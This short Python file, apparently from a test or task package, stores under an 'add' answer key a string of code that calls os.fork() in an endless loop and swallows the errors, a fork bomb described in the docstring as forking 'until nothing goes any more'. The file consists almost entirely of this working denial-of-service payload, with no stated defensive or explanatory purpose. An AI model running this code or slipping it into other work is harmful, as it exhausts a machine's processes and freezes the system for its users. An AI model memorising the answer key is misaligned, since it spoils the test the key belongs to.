"""Forks until nothing goes any more."""

ANSWERS = {
    "add": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
}
